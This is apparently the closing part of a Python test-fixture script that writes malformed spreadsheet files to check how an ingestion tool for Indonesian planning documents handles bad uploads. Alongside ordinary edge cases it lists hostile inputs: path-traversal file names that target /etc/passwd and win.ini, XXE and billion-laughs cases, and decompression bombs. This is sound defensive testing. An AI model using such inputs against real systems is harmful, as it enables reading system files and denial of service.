    BadCase("encrypted", "terkunci sandi.xlsx", encrypted, "rejected", ("file-encrypted",)),
    BadCase("broken-xls", "rusak lama.xls", broken_xls, "rejected", ("file-unreadable",)),
    BadCase("macros", "Renja dengan makro.xlsm", with_macros, "accepted", ("file-macros",)),
    BadCase("xlsb", "Renja biner.xlsb", xlsb, "rejected", ("file-format-unsupported",)),
    BadCase("decompression-bomb", "bom dekompresi.xlsx", decompression_bomb, "rejected", ("file-too-large",)),
    BadCase("bomb-lying-sizes", "bom ukuran palsu.xlsx", bomb_lying_sizes, "rejected", ("file-unreadable",)),
    BadCase("million-rows", "sejuta baris.xlsx", million_rows, "rejected", ("file-too-large",)),
    BadCase("wrong-dimension", "dimensi salah.xlsx", wrong_dimension, "accepted"),
    BadCase("external-links", "tautan eksternal.xlsx", external_links, "accepted", ("target-percent-over-100",)),
    BadCase("formula-no-value", "rumus tanpa nilai.xlsx", formulas_without_values, "rejected",
            ("formula-no-cached-value",)),
    BadCase("error-cells", "sel galat.xlsx", error_cells, "rejected", ("cell-error-value",)),
    BadCase("date-as-pagu", "pagu tanggal.xlsx", date_as_pagu, "rejected", ("value-date",)),
    BadCase("huge-cell", "sel 10 MB.xlsx", huge_cell, "rejected", ("file-too-large",)),
    BadCase("odd-text", "teks aneh \U0001F680 \u0639\u0631\u0628\u064a.xlsx", odd_text, "accepted",
            ("target-percent-over-100",)),
    BadCase("formula-like-text", "teks mirip rumus.xlsx", formula_like_text, "accepted",
            ("target-percent-over-100",)),
    BadCase("traversal-name", "..%2F..%2Fetc%2Fpasswd.xlsx", traversal_name, "accepted"),
    BadCase("opd-path-traversal", "opd jalur keluar.xlsx", opd_path_traversal, "accepted"),
    BadCase("backslash-name", "..\\..\\Windows\\win.ini.xlsx", nested_folder, "rejected", ("file-unreadable",)),
    BadCase("nested-folder", "kiriman OPD/Dinas Kesehatan (2024)/Renja \u2713 final (1).xlsx", nested_folder,
            "rejected", ("file-unreadable",)),
    BadCase("long-unicode-name", LONG_NAME, long_unicode_name, "rejected", ("file-unreadable",)),
    BadCase("same-name-a", "OPD A/Renja 2024.xlsx", same_name_valid, "accepted"),
    BadCase("same-name-b", "OPD B/Renja 2024.xlsx", same_name_broken, "rejected", ("file-unreadable",)),
    BadCase("still-copying-part", "Renja 2024 BAPPEDA.xlsx.part", temp_download, "ignored", ("file-ignored",)),
    BadCase("still-downloading", "Renja 2024 BAPPEDA.xlsx.crdownload", temp_download, "ignored", ("file-ignored",)),
    BadCase("renamed-as-xls", "Renja (format lama).xls", renamed_as_xls, "accepted"),
    BadCase("xxe", "entitas eksternal.xlsx", xxe, "rejected", ("file-unreadable",)),
    BadCase("billion-laughs", "entitas bersarang.xlsx", billion_laughs, "rejected", ("file-unreadable",)),
    BadCase("duplicate-members", "bagian ganda.xlsx", duplicate_members, "rejected", ("file-unreadable",)),
    BadCase("ods-repeat-bomb", "ulang tanpa batas.ods", ods_repeat_bomb, "rejected", ("file-too-large",)),
]}


def write_case(case: BadCase, inbox: Path) -> Path:
    path = inbox.joinpath(*case.path.split("/"))
    path.parent.mkdir(parents=True, exist_ok=True)
    case.make(path)
    return path


def write_corpus(inbox: Path, names: list[str] | None = None) -> dict[str, Path]:
    """Every case (or the named ones) written into ``inbox``; returns case name -> path."""
    return {name: write_case(CASES[name], inbox) for name in (names or list(CASES))}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--out", type=Path, required=True, help="folder to write the corpus into (as an inbox)")
    parser.add_argument("cases", nargs="*", help=f"cases to write (default all): {', '.join(CASES)}")
    args = parser.parse_args(argv)
    for name, path in write_corpus(args.out, args.cases or None).items():
        print(f"{name:<22} {path}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
